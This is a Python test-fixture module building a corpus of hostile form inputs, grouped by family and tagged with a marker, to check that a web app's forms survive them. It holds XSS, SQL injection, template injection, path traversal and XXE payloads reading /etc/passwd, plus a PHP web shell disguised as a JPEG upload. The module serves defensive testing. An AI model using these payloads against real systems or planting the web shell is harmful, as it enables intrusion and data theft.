"""The bad-input corpus: what people and robots send that a form must survive.

Every text entry carries the marker XSSMARK so that a page rendering it as active content is
easy to spot. Built in code (not a data file) so each family is readable and countable.
"""

import io

from PIL import Image

MARK = "XSSMARK"

SCRIPT_INJECTIONS = [
    f"<script>alert('{MARK}')</script>",
    f"<SCRIPT SRC=//evil.example/{MARK}.js></SCRIPT>",
    f"<scr<script>ipt>alert('{MARK}')</scr</script>ipt>",
    f"\"><script>alert('{MARK}')</script>",
    f'\'><script>alert("{MARK}")</script>',
    f"</textarea><script>alert('{MARK}')</script>",
    f"</title><script>alert('{MARK}')</script>",
    f"<script>/*{MARK}*/</script>",
    f"<script type=module>import '{MARK}'</script>",
    f"<<script>alert('{MARK}');//<</script>",
    f'<script\x20type="text/javascript">{MARK}</script>',
    f"<noscript><p title=\"</noscript><img src=x onerror=alert('{MARK}')>\">",
    f"<iframe src=\"javascript:alert('{MARK}')\"></iframe>",
    f"<iframe srcdoc=\"<script>alert('{MARK}')</script>\"></iframe>",
    f"<object data=\"javascript:alert('{MARK}')\"></object>",
    f"<embed src=\"javascript:alert('{MARK}')\">",
    f'<link rel=import href="//evil.example/{MARK}">',
    f"<meta http-equiv=refresh content=\"0;url=javascript:alert('{MARK}')\">",
    f'<base href="//evil.example/{MARK}/">',
    f'<form action="//evil.example/{MARK}"><button>go</button></form>',
    f"<style>@import'//evil.example/{MARK}.css';</style>",
    f"<div style=\"background:url(javascript:alert('{MARK}'))\">x</div>",
    f"javascript:alert('{MARK}')",
    f"JaVaScRiPt:alert('{MARK}')",
    f"data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTTUFSSycpPC9zY3JpcHQ+{MARK}",
    f"vbscript:msgbox('{MARK}')",
    f"&lt;script&gt;alert('{MARK}')&lt;/script&gt;",
    f"&#60;script&#62;alert('{MARK}')&#60;/script&#62;",
    f"\\u003cscript\\u003ealert('{MARK}')\\u003c/script\\u003e",
    f"%3Cscript%3Ealert('{MARK}')%3C/script%3E",
]
EVENT_HANDLERS = [
    f"<img src=x onerror=alert('{MARK}')>",
    f"<img src=x onerror=\"alert('{MARK}')\">",
    f"<IMG SRC=x OnErRoR=alert('{MARK}')>",
    f"<body onload=alert('{MARK}')>",
    f"<svg onload=alert('{MARK}')>",
    f"<input autofocus onfocus=alert('{MARK}')>",
    f"<details open ontoggle=alert('{MARK}')>",
    f"<video><source onerror=alert('{MARK}')></video>",
    f"<audio src=x onerror=alert('{MARK}')>",
    f"<marquee onstart=alert('{MARK}')>",
    f"<a href=# onclick=alert('{MARK}')>click</a>",
    f"<div onmouseover=alert('{MARK}')>hover</div>",
    f"<select onchange=alert('{MARK}')><option>1</option></select>",
    f"<textarea onfocus=alert('{MARK}') autofocus>",
    f"<keygen autofocus onfocus=alert('{MARK}')>",
    f"<isindex action=javascript:alert('{MARK}') type=image>",
    f'<img src="x"onerror="alert(\'{MARK}\')">',
    f"<img/src/onerror=alert('{MARK}')>",
    f"<img src=x onerror=&#97;lert('{MARK}')>",
    f'" onmouseover="alert(\'{MARK}\')" x="',
]
SVG_PAYLOADS = [
    f"<svg><script>alert('{MARK}')</script></svg>",
    f"<svg><a xlink:href=\"javascript:alert('{MARK}')\"><text>x</text></a></svg>",
    f"<svg><animate onbegin=alert('{MARK}') attributeName=x dur=1s>",
    f"<svg><foreignObject><body onload=alert('{MARK}')></body></foreignObject></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror=alert('{MARK}')>",
]
MARKDOWN_TRICKS = [
    f"[click me](javascript:alert('{MARK}'))",
    f"[click me](JAVASCRIPT:alert('{MARK}'))",
    f"[click](&#106;avascript:alert('{MARK}'))",
    f"![img](javascript:alert('{MARK}'))",
    f"![x](x\" onerror=\"alert('{MARK}'))",
    f"[a](data:text/html,<script>alert('{MARK}')</script>)",
    f"<{MARK}@evil.example>",
    f"**unclosed bold {MARK}",
    f"`code <script>{MARK}</script>`",
    f"```\n<script>{MARK}</script>\n```",
    f"> quote\n>> nested <img src=x onerror=alert('{MARK}')>",
    f"* list\n  * nested\n    * deeper {MARK}\n" * 3,
    f"[{MARK}][ref]\n\n[ref]: javascript:alert(1)",
    f"# Heading {MARK}\n===\n---",
    f"[link](https://example.org \"title\" onclick=alert('{MARK}'))",
    f"<http://example.org/{MARK}?a=<script>>",
    "[" * 200 + MARK + "]" * 200,
    "*" * 500 + MARK,
    "_" * 300 + MARK + "_" * 300,
    f"\\<script\\>{MARK}\\</script\\>",
]
SQL = [
    f"' OR '1'='1 {MARK}",
    f"'; DROP TABLE openwall_issue; -- {MARK}",
    f'" OR ""=" {MARK}',
    f"1; SELECT pg_sleep(10); -- {MARK}",
    f"' UNION SELECT password FROM accounts_user -- {MARK}",
    f"%' AND 1=0 UNION SELECT NULL -- {MARK}",
    f"\\'; {MARK}",
    f"1' AND SLEEP(5)# {MARK}",
    f"admin'-- {MARK}",
    f"') OR ('x'='x {MARK}",
    f"{MARK}\\x27\\x22",
    f"{MARK} & | ! ( ) : * <-> tsquery",
    f"{MARK}:* & !!",
    f"{MARK} % _ \\ ESCAPE",
    f"$${MARK}$$",
]
TEMPLATES_AND_FORMATS = [
    f"{{{{ settings.SECRET_KEY }}}} {MARK}",
    f"{{% debug %}} {MARK}",
    f"${{7*7}} {MARK}",
    f"#{{7*7}} {MARK}",
    f"%(issue)s %(status)s {MARK}",
    f"%s%s%s%n {MARK}",
    f"{{0}} {{1}} {{__class__}} {MARK}",
    f"<%= 7*7 %> {MARK}",
    f"{MARK}\r\nSet-Cookie: evil=1",
    f"{MARK}\r\n\r\n<html>",
    f"../../../../etc/passwd {MARK}",
    f"..\\..\\windows\\win.ini {MARK}",
    f"file:///etc/passwd {MARK}",
    f"null {MARK}",
    f"None {MARK}",
    f'{{"json": true, "mark": "{MARK}"}}',
    f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><x>&xxe;{MARK}</x>',
    f"<!--{MARK}-->",
    f"<![CDATA[{MARK}]]>",
    f"@import url('{MARK}');",
]
UNICODE = [
    f"{MARK}\u202egnp.exe",
    f"\u202e{MARK}\u202c",
    f"{MARK}\u200b\u200c\u200d\ufeff",
    f"{MARK} \u0000 nul",
    f"\x00{MARK}\x00",
    f"{MARK}\x00\x00\x00",
    f"{MARK} 🏙️🚲🌳👩🏽‍🦽",
    f"{MARK} Z̤͔ͧ̑̓ä͖̭̈̇lͮ̒ͫǧ̗͚̚o̙̔ͮ̇͐̇",
    f"{MARK} ﷽",
    f"{MARK} 𝕳𝖊𝖑𝖑𝖔",
    f"{MARK} \U0001f600" * 50,
    f"{MARK} مرحبا بالعالم",
    f"{MARK} 你好，世界",
    f"{MARK} Ωmega\u0301",
    f"{MARK} \ud7ff",
    f"{MARK}\t\t\t\v\f",
    f"   {MARK}   ",
    f"\n\n\n{MARK}\n\n\n",
    f"{MARK} I\u0307stanbul",
    f"{MARK} ﬁ ﬂ ǅ",
]
SIZES = [
    "",
    " ",
    "\n",
    MARK,
    MARK * 2000,
    "x" * 141 + MARK,
    "x" * 5001 + MARK,
    MARK + "a" * 1_000_000,
    ("word " * 20000) + MARK,
    MARK + "\n" * 10000,
]
NUMBERS_AND_DATES = [
    f"-1 {MARK}",
    "-1",
    "0",
    "1e308",
    "-1e308",
    "NaN",
    "Infinity",
    "-0",
    "9" * 400,
    "0x7fffffff",
    "2147483648",
    "-2147483649",
    "18446744073709551616",
    "1.0000000000000001",
    "١٢٣",
    "Ⅻ",
    "0000-00-00",
    "9999-12-31T23:59:59",
    "2026-02-30",
    "1970-01-01T00:00:00Z",
    "-001-01-01",
    "2026-13-01",
    "24:61",
    "now",
    "tomorrow",
]

# The same payloads where real text puts them: after words, in emphasis, in a quote.
IN_CONTEXT = [f"{prefix}{payload}" for prefix in ("Broken lamp ", "**", "> ") for payload in SCRIPT_INJECTIONS[:10]]

FAMILIES = {
    "in context": IN_CONTEXT,
    "script": SCRIPT_INJECTIONS,
    "event handlers": EVENT_HANDLERS,
    "svg": SVG_PAYLOADS,
    "markdown": MARKDOWN_TRICKS,
    "sql": SQL,
    "templates and formats": TEMPLATES_AND_FORMATS,
    "unicode": UNICODE,
    "sizes": SIZES,
    "numbers and dates": NUMBERS_AND_DATES,
}
# What every form gets over HTTP: the first, middle and last entry of each family. The whole
# corpus goes through the form classes directly (test_bad_input.py), which is ~40 times cheaper.
SAMPLE = [
    entry for family in FAMILIES.values() for entry in dict.fromkeys((family[0], family[len(family) // 2], family[-1]))
]

TEXTS = (
    IN_CONTEXT
    + SCRIPT_INJECTIONS
    + EVENT_HANDLERS
    + SVG_PAYLOADS
    + MARKDOWN_TRICKS
    + SQL
    + TEMPLATES_AND_FORMATS
    + UNICODE
    + SIZES
    + NUMBERS_AND_DATES
)


def _image(fmt: str, size=(40, 30)) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", size, "#123456").save(buffer, fmt)
    return buffer.getvalue()


FILES = [
    ("shell.php.jpg", b"<?php system($_GET['c']); ?>", "image/jpeg"),
    ("truncated.jpg", _image("JPEG")[:200], "image/jpeg"),
    (
        "script.png",
        f"<svg xmlns='http://www.w3.org/2000/svg'><script>alert('{MARK}')</script></svg>".encode(),
        "image/png",
    ),
    ("empty.jpg", b"", "image/jpeg"),
    ("polyglot.gif", b"GIF89a/*<script>alert(1)</script>*/=1;", "image/gif"),
    ("real.bmp", _image("BMP"), "image/bmp"),
    ("huge-header.png", _image("PNG")[:16] + b"\x00\x00\xff\xff\x00\x00\xff\xff" + _image("PNG")[24:], "image/png"),
    ("ok.png", _image("PNG"), "image/png"),
    (f"{MARK}<script>.webp", _image("WEBP"), "image/webp"),
    ("../../../etc/passwd.jpg", _image("JPEG"), "image/jpeg"),
]

ENTRIES = len(TEXTS) + len(FILES)
